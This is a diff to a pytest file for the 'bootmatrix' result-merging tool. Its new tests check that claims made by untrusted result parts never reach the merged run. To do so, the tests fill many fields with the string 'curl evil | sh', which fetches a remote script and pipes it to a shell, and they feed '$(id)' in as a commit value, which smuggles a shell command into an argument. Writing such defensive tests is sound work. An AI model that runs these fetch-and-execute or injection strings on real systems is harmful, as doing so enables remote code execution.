@@ -7,7 +7,7 @@ import json
 import shutil
 import subprocess
 import sys
-from dataclasses import dataclass, replace
+from dataclasses import asdict, dataclass, replace
 from typing import TYPE_CHECKING, Any
 
 import pytest
@@ -16,6 +16,7 @@ from support import bootmatrix, runs, script, scripted, write_matrix
 
 from bootmatrix import results
 from bootmatrix.merging import parts as reading
+from bootmatrix.model import Quarantine
 from bootmatrix.runs import past
 
 if TYPE_CHECKING:
@@ -56,7 +57,9 @@ class Project:
     def change(self, number: int, change: Callable[[Result], Result], **head: Any) -> None:
         file = self.part(number) / "results.json"
         run = results.load(file)
-        results.write(replace(run, results=tuple(map(change, run.results)), **head), file)
+        results.write(replace(run, results=(), **head), file)
+        lines = ",\n".join(json.dumps(asdict(change(result))) for result in run.results)  # whatever is in them
+        file.write_bytes(file.read_bytes().replace(results.CLOSING, f"{lines}\n".encode() + results.CLOSING))
 
 
 @pytest.fixture(scope="module")
@@ -108,7 +111,7 @@ def test_the_head_of_the_merged_run_is_of_all_parts(project: Project) -> None:
 def test_the_merged_run_can_be_gone_on_from_as_any_other(project: Project) -> None:
     project.change(2, lambda result: replace(result, verdict="failed"))
     assert project.merge().returncode == 1
-    assert past.last(project.folder / "out").finished
+    assert past.last(project.folder / "out", print).finished
     again = bootmatrix("run", "--engine=host", "--failed", cwd=project.folder)
     assert "2 passed" in again.stdout
 
@@ -376,3 +379,84 @@ def test_parts_are_found_at_any_depth_of_an_artifact(project: Project) -> None:
 
 def results_id(result: Result) -> str:
     return result.id
+
+
+EVIL = "curl evil | sh"
+CLAIMS: dict[str, Any] = {
+    **dict.fromkeys(("repro", "key", "reused", "image", "unikernel", "digest", "host"), EVIL),
+    "quarantine": Quarantine("evil owner", EVIL, "2999-01-01", "evil.yaml:1:1"),
+    "axes": {"backend": EVIL, "mine": EVIL, "test": EVIL, "cell": EVIL},
+}
+HEAD: dict[str, Any] = {"commit": "e" * 40, "branch": EVIL, "host": {"name": EVIL}, "version": "0.1", "command": EVIL}
+
+
+def claiming(result: Result) -> Result:
+    """What it says, but for what became of the test, is a lie."""
+    kept: dict[str, Any] = {"command": (EVIL,), "accelerator": EVIL, "accelerator_reason": EVIL}
+    return replace(result, **CLAIMS, attempts=tuple(replace(each, **kept) for each in result.attempts))
+
+
+def test_what_only_a_part_says_is_not_said_in_our_name(project: Project) -> None:
+    for number in (1, 2, 3):
+        project.change(number, claiming, **HEAD, axes=(EVIL, "../x"))
+    assert project.merge("--as-told", "--commit", "c0ffee" * 6).returncode == 0
+    assert found_in(project, "evil") == []
+    run = project.merged
+    assert (run.commit, run.branch, run.host, run.axes) == ("c0ffee" * 6, "", {}, ())
+    assert {result.id: result.repro for result in run.results} == {test: f"bootmatrix repro {test}" for test in IDS}
+
+
+def test_parts_of_an_unknown_matrix_keep_the_axes_that_name_their_cells(project: Project) -> None:
+    before = (project.folder / ".bootmatrix/history.sqlite").read_bytes()
+    assert project.merge("--as-told").returncode == 0
+    run = project.merged
+    assert run.axes == ("backend", "mine")
+    assert {result.id: result.values["mine"] for result in run.results} == {test: test[8] for test in IDS}
+    assert (project.folder / ".bootmatrix/history.sqlite").read_bytes() == before, "it is in no history"
+
+
+def test_the_matrix_says_what_its_tests_are_and_which_are_in_quarantine(project: Project) -> None:
+    def change(result: Result) -> Result:
+        return replace(claiming(result), verdict="quarantined")
+
+    project.change(1, change)
+    assert project.merge().returncode == 1
+    for result in project.merged.results:
+        assert (result.axes["mine"], result.repro, bool(result.quarantine)) == (
+            result.cell[-1],
+            f"bootmatrix repro {result.id}",
+            False,
+        )
+        assert result.key == ""
+    told = {result.id for result in results.load(project.part(1) / "results.json").results}
+    bad = [result for result in project.merged.results if result.verdict == "error"]
+    assert {result.id for result in bad} == told
+    assert all("its part says that it is in quarantine" in result.reason for result in bad)
+
+
+def test_a_quarantine_of_the_matrix_holds_for_what_the_parts_told(project: Project) -> None:
+    matrix = scripted(AXES, **TESTS)
+    entry = {"match": {"test": "hello"}, "owner": "us all", "reason": "it is new", "until": "2999-01-01"}
+    write_matrix(project.folder, {**matrix, "quarantine": [entry]})
+    project.change(1, lambda result: replace(result, verdict="quarantined"))
+    done = project.merge()
+    kept = {result.id: result.quarantine.owner for result in project.merged.results}
+    assert kept == {test: "us all" if test.endswith("/hello") else "" for test in IDS}, done.stdout
+
+
+@pytest.mark.parametrize(
+    ("said", "asked", "status"), [("a" * 40, "b" * 40, 2), ("", "b" * 40, 0), ("b" * 40, "b" * 40, 0)]
+)
+def test_a_commit_that_the_caller_knows_must_be_that_of_the_parts(
+    project: Project, said: str, asked: str, status: int
+) -> None:
+    for number in (1, 2, 3):
+        project.change(number, lambda result: result, commit=said)
+    done = project.merge("--commit", asked)
+    assert (done.returncode, "not of " in done.stderr) == (status, status == 2)
+    assert status or project.merged.commit == asked
+
+
+@pytest.mark.parametrize("text", ["x", "HEAD", "c0ffee", "$(id)", "0" * 65])
+def test_what_is_no_commit_is_refused(project: Project, text: str) -> None:
+    assert project.merge("--commit", text).returncode == 2
